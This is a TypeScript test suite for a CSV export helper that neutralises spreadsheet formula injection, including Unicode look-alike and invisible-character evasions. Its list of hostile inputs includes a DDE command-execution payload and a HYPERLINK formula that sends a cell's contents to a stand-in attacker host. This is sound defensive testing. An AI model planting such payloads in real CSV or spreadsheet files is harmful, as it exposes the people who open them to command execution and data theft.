import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { FORMULA_LEADS, neutralizeFormulas, safeCsv } from './safe-csv';

const csvOf = (records: string[][]) => safeCsv(records);

/** A lead as a spreadsheet that folds compatibility forms (NFKC) sees it. */
const isLead = (char: string) =>
  char === '\t' || char === '\r' || '=+-@'.includes(char.normalize('NFKC')[0] ?? '');

/**
 * A cell a spreadsheet would run: its first visible character, after any quotes, spaces
 * of any kind and invisible format characters (which a reader may drop), is a lead.
 */
const RUNS_AS_FORMULA = {
  test: (cell: string) => {
    const first = /^["\p{Z}\p{Cf}]*(.)/su.exec(cell);
    return first !== null && isLead(first[1]);
  },
};

/**
 * Every cell of `text` as the crudest reader splitting on `separator` sees it: quotes
 * ignored, so every separator starts a cell. A reader that honours quotes starts cells at
 * a subset of these places, with the opening quote removed (RUNS_AS_FORMULA skips it).
 */
function cellsAsSplitBy(text: string, separator: ',' | ';' | '\t'): string[] {
  return text.split(/[\r\n]+/).flatMap((line) => line.split(separator));
}

const HOSTILE = [
  "Москва;=cmd|' /C calc'!A0;",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  'Хэйхэ,=1+1',
  'a;b;"=1+1"',
  'a; =1+1',
  'a;"  @x',
  '黑河\n=1+1',
  'tab\t=1+1',
  '＝1＋1',
  'ok;＠x',
  // Small forms, super- and subscripts: their NFKC form is the ASCII lead.
  '﹦1+1',
  '﹢1',
  '﹣1',
  '﹫SUM(A1)',
  'a;⁼1',
  '₊1',
  '⩵1',
  // A lead after a space a reader may drop at the start of a cell.
  '\u3000=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u2060@x',
  'a;\u3000＝1',
  'a,\u200b \u00a0+1',
];

describe('safe CSV', () => {
  it.each(HOSTILE)('%j never starts a cell with a formula, split by , ; or tab', (value) => {
    const text = csvOf([['1', value, 'tail']]);
    for (const separator of [',', ';', '\t'] as const) {
      const running = cellsAsSplitBy(text, separator).filter((cell) => RUNS_AS_FORMULA.test(cell));
      expect({ separator, running }).toEqual({ separator, running: [] });
    }
  });

  it.each([
    ['\u3000=1', "\u3000'=1"],
    ['\u00a0=1', "\u00a0'=1"],
    ['\u200b=1', "\u200b'=1"],
    ['\ufeff@x', "\ufeff'@x"],
    ['﹦1', "'﹦1"],
    ['﹢1', "'﹢1"],
    ['﹣1', "'﹣1"],
    ['﹫x', "'﹫x"],
    ['Москва;\u3000﹦cmd', "Москва;\u3000'﹦cmd"],
    ['x\u3000=1', 'x\u3000=1'],
  ])('neutralizes %j as %j, not only quotes it', (value, neutralized) => {
    expect(neutralizeFormulas(value)).toBe(neutralized);
    expect(csvOf([[value]])).toBe(`"${neutralized}"\r\n`);
  });

  it('treats every character whose NFKC form begins with = + - @ as a lead', () => {
    const leads: string[] = [];
    for (let code = 0; code <= 0x10ffff; code++) {
      if (code >= 0xd800 && code <= 0xdfff) continue;
      const char = String.fromCodePoint(code);
      if (isLead(char)) leads.push(char);
    }
    expect([...FORMULA_LEADS].sort()).toEqual(leads.sort());
    for (const lead of leads) expect(neutralizeFormulas(`${lead}1`)).toBe(`'${lead}1`);
  });

  it('quotes every cell with a separator, quote, line break or formula lead anywhere', () => {
    const text = csvOf([['a;b', 'a,b', 'say "hi"', 'two\nlines', 'x=y', 'x-y', 'plain']]);
    expect(text).toBe('"a;b","a,b","say ""hi""","two\nlines","x=y","x-y",plain\r\n');
  });

  it('reads back as written by an RFC 4180 reader, changed only where a formula could start', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.array(
            fc.string({
              unit: fc.constantFrom(
                'a',
                'я',
                '黑',
                ' ',
                ',',
                ';',
                '"',
                "'",
                '\n',
                '\r',
                '\t',
                '=',
                '+',
                '-',
                '@',
                '＝',
                '﹦',
                '﹣',
                '\u3000',
                '\u200b',
                '\ufeff',
              ),
            }),
            {
              minLength: 1,
              maxLength: 4,
            },
          ),
          { minLength: 1, maxLength: 4 },
        ),
        (records) => {
          const text = csvOf(records);
          const back: string[][] = parse(text, {
            delimiter: ',',
            record_delimiter: '\r\n',
            relax_column_count: true,
          });
          expect(back).toEqual(records.map((record) => record.map(neutralizeFormulas)));
          for (const separator of [',', ';', '\t'] as const) {
            expect(
              cellsAsSplitBy(text, separator).filter((cell) => RUNS_AS_FORMULA.test(cell)),
            ).toEqual([]);
          }
        },
      ),
      { numRuns: 300 },
    );
  });

  it('leaves ordinary values alone', () => {
    for (const value of ['李雨轩', 'Ли Юйсюань', 'E12345678', '2011-03-04', 'Благовещенск']) {
      expect(neutralizeFormulas(value)).toBe(value);
    }
    expect(neutralizeFormulas('Москва;=cmd')).toBe("Москва;'=cmd");
  });
});
